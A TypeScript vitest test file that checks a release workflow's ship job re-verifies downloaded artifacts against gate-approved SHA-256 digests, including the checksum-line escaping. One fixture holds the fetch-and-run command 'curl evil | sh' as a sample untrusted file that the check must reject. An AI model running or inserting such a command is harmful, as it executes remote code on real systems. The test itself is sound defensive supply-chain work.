// The example's ship job checks what it downloads again against the digests the gate passed (threat model, row 237):
// its check step run with bash as the runner runs it, on files the gate passed, on a copy replaced after the gate, on
// one file more, and on no digests at all; and the gate's `digests` output read back by the real sha256sum, names
// with a backslash or a line break included.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { passedChecksums } from '@twokey/gate';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { repoRoot } from '../conformance/paths';

interface Step {
  name?: string;
  run?: string;
  env?: Record<string, string>;
  'working-directory'?: string;
}

const ship = (
  parse(readFileSync(join(repoRoot, 'workflows/release.yml'), 'utf8')) as {
    jobs: Record<string, { steps: Step[] }>;
  }
).jobs.ship!;
const check = ship.steps.find((s) => s.name === 'Check that these are the files the gate passed')!;

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** A passing report of these files, as the gate writes it (only what passedChecksums reads). */
function passing(files: Record<string, string>): Parameters<typeof passedChecksums>[0] {
  return {
    verdict: 'pass',
    artifacts: Object.entries(files).map(([name, text]) => ({
      artifact: { name, digest: `sha256:${sha256(text)}` },
    })),
  };
}

/** The ship job's check step, run with bash in a fresh `artifacts` directory holding `files`. */
function runCheck(files: Record<string, string>, digests: string): number {
  const root = mkdtempSync(join(tmpdir(), 'twokey-ship-'));
  const directory = join(root, check['working-directory']!);
  mkdirSync(directory);
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(directory, name)), { recursive: true });
    writeFileSync(join(directory, name), text);
  }
  const run = spawnSync('bash', ['-e', '-o', 'pipefail', '-c', check.run!], {
    cwd: directory,
    env: { PATH: process.env.PATH, DIGESTS: digests },
    encoding: 'utf8',
  });
  return run.status ?? -1;
}

describe("the example's ship job checks what it downloaded again against the gate's digests", () => {
  const built = { 'app.tar.gz': 'the release', 'app.sbom.json': '{}' };
  const digests = passedChecksums(passing(built));

  it('reads them from the deploy job’s output, through the environment (never pasted into the script)', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression, as the workflow spells it
    expect(check.env).toEqual({ DIGESTS: '${{ needs.deploy.outputs.digests }}' });
    expect(check.run).not.toContain('${{');
    expect(ship.steps.indexOf(check)).toBe(ship.steps.findIndex((s) => s.run?.startsWith('./deploy.sh')) - 1);
  });
  it('ships the files the gate passed', () => {
    expect(runCheck(built, digests)).toBe(0);
  });
  it('stops a copy replaced after the gate', () => {
    expect(runCheck({ ...built, 'app.tar.gz': 'a backdoored release' }, digests)).not.toBe(0);
  });
  it('stops a file the gate never judged beside them', () => {
    expect(runCheck({ ...built, 'extra.sh': 'curl evil | sh' }, digests)).not.toBe(0);
    expect(runCheck({ ...built, '.hidden': 'x' }, digests)).not.toBe(0);
  });
  it('stops a directory beside them, and a file the gate never judged inside one', () => {
    // Found by the review of the ship job: names the gate judged with a directory (subject-checksums' `lib/x.so`),
    // and one more file in that directory, counted as one top-level entry.
    const nested = { 'app.tar.gz': 'the release', 'lib/libapp.so': 'the library' };
    const withLib = passedChecksums(passing(nested));
    expect(runCheck({ ...nested, 'lib/evil.so': 'x' }, withLib)).not.toBe(0);
    expect(runCheck(nested, withLib)).not.toBe(0);
  });
  it('stops when a file the gate passed is missing, or when the gate passed nothing', () => {
    expect(runCheck({ 'app.tar.gz': built['app.tar.gz'] }, digests)).not.toBe(0);
    expect(runCheck(built, '')).not.toBe(0);
  });
});

describe('passedChecksums', () => {
  it("writes names sha256sum reads back, a backslash and line breaks included (GNU coreutils' escaping)", () => {
    const files = { 'plain.tgz': 'a', 'back\\slash': 'b', 'line\nbreak': 'c', 'carriage\rreturn': 'd' };
    const lines = passedChecksums(passing(files));
    expect(lines.split('\n')).toHaveLength(4);
    const root = mkdtempSync(join(tmpdir(), 'twokey-sums-'));
    for (const [name, text] of Object.entries(files)) writeFileSync(join(root, name), text);
    const run = spawnSync('sha256sum', ['--check', '--strict'], { cwd: root, input: `${lines}\n`, encoding: 'utf8' });
    expect(run.status, run.stdout + run.stderr).toBe(0);
    writeFileSync(join(root, 'line\nbreak'), 'changed');
    expect(spawnSync('sha256sum', ['--check', '--strict'], { cwd: root, input: `${lines}\n` }).status).not.toBe(0);
  });
  it('names a file given as ./app as app, and a file given twice once (the ship job counts files against lines)', () => {
    const report = passing({ app: 'a', './app': 'a', '././b': 'b' });
    expect(passedChecksums(report)).toBe(`${sha256('a')}  app\n${sha256('b')}  b`);
  });
  it('has no line for an artifact given by digest alone (no file to check)', () => {
    const report = passing({ named: 'a', other: 'b' });
    delete (report.artifacts[1]!.artifact as { name?: string }).name;
    expect(passedChecksums(report)).toBe(`${sha256('a')}  named`);
  });
  it('is empty for a report that did not pass', () => {
    expect(passedChecksums({ ...passing({ a: 'a' }), verdict: 'fail' })).toBe('');
  });
});
